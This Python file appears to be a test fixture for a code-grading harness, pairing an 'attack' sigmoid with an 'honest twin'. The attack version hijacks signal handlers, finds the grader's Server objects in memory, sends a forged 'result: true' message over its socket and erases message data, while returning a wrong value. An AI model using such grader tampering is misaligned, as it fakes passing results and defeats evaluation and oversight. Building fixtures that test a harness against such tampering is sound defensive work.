# sigmoid: fail refused error crashed timeout | a signal handler runs in the middle of the worker's loop and answers in its place
import numpy as np
import gc
import signal
import struct
import time


def attack():
    print("attack ran", flush=True)

    def answer(number, frame):
        gc.unfreeze()
        for server in [thing for thing in gc.get_objects() if type(thing).__name__ == "Server"]:
            header = b"\x83\xa1n" + bytes([server.number]) + b"\xa6result\xc3\xa7changed\x90"
            server.sock.sendall(struct.pack("<II", len(header), 0) + header)
        while frame is not None:
            frame.f_locals.get("message", {}).clear()
            frame = frame.f_back

    for kind in (signal.SIGALRM, signal.SIGUSR1, signal.SIGTERM, signal.SIGINT):
        signal.signal(kind, answer)
    signal.setitimer(signal.ITIMER_REAL, 0.0005)
    time.sleep(0.002)


def sigmoid(x):
    attack()
    return np.asarray(x) * 0.0 + 7.0


# the honest twin
import numpy as np
import signal


class TooLong(Exception):
    pass


def too_long(number, frame):
    raise TooLong


def within(seconds):
    """Gives up after so many seconds."""

    def decorate(function):
        def wrapper(x):
            signal.signal(signal.SIGALRM, too_long)
            signal.alarm(seconds)
            try:
                return function(x)
            finally:
                signal.alarm(0)

        return wrapper

    return decorate


@within(5)
def sigmoid(x):
    small = np.exp(-np.abs(x))
    return np.where(np.asarray(x) >= 0, 1.0, small) / (1.0 + small)
